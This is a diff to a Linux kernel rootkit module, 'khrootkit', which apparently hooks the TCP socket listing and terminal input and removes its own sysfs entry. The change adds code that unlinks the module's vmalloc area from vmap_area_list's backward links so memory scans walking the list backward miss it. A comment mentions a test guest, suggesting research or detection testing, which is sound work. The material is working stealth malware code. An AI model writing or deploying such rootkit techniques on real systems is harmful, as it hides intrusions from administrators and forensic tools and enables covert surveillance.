@@ -32,7 +32,11 @@
  * Later, writing the write-only parameter vanish takes its kobject out
  * of sysfs too (kobject_del, from a work item: not inside the write of
  * one of its own attributes), so that only its memory is left to find
- * it by: /sys/module/khrootkit and its parameters are gone then.
+ * it by: /sys/module/khrootkit and its parameters are gone then. Given
+ * vmap_list (vmap_area_list's address), it also hides that memory's
+ * vmalloc area from a walk of the list from its end: the area above
+ * its own gets its own's prev link, so walking back skips it, while the
+ * forward links, and the kernel's lookups by rbtree, are left whole.
  *
  * Each step that fails undoes the earlier ones and fails the init; the
  * hiding comes last, so a failure never leaves something hidden. There is
@@ -164,6 +168,10 @@ static unsigned long ldisc_ops;
 module_param_cb(ldisc_ops, &kh_hex_ops, &ldisc_ops, 0444);
 MODULE_PARM_DESC(ldisc_ops, "address of n_tty_ops, from /proc/kallsyms (required)");
 
+static unsigned long vmap_list;
+module_param_cb(vmap_list, &kh_hex_ops, &vmap_list, 0444);
+MODULE_PARM_DESC(vmap_list, "address of vmap_area_list, from /proc/kallsyms (vanish skips the module's area in its prev links)");
+
 static unsigned long seq_show_addr;
 module_param_cb(seq_show_addr, &kh_out_ops, &seq_show_addr, 0444);
 MODULE_PARM_DESC(seq_show_addr, "out: the function now in tcp4_seq_ops.show");
@@ -181,10 +189,36 @@ MODULE_PARM_DESC(tty_hook_addr, "out: the function now in n_tty_ops.receive_buf2
 static bool kh_loaded;
 static atomic_t kh_vanishing = ATOMIC_INIT(0);
 
+/*
+ * The vmalloc area of the module's core: the one after it in the list
+ * (or the list's head) is given its prev link. vmap_area_lock is not
+ * exported: the module region's areas only change when a module or BPF
+ * program comes or goes, which the test guest does not do meanwhile.
+ */
+static void kh_skip_area(void)
+{
+	struct list_head *head = (struct list_head *)vmap_list;
+	unsigned long base = (unsigned long)THIS_MODULE->core_layout.base;
+	struct vmap_area *va;
+
+	if (!head)
+		return;
+	list_for_each_entry(va, head, list) {
+		if (va->va_start <= base && base < va->va_end) {
+			WRITE_ONCE(va->list.next->prev, va->list.prev);
+			pr_info("skipped its vmalloc area 0x%lx-0x%lx in vmap_area_list's prev links\n",
+				va->va_start, va->va_end);
+			return;
+		}
+	}
+	pr_info("found no vmalloc area of its own\n");
+}
+
 static void kh_vanish_fn(struct work_struct *work)
 {
 	kobject_del(&THIS_MODULE->mkobj.kobj);
 	pr_info("removed its kobject: /sys/module/khrootkit is gone\n");
+	kh_skip_area();
 }
 
 static DECLARE_WORK(kh_vanish_work, kh_vanish_fn);
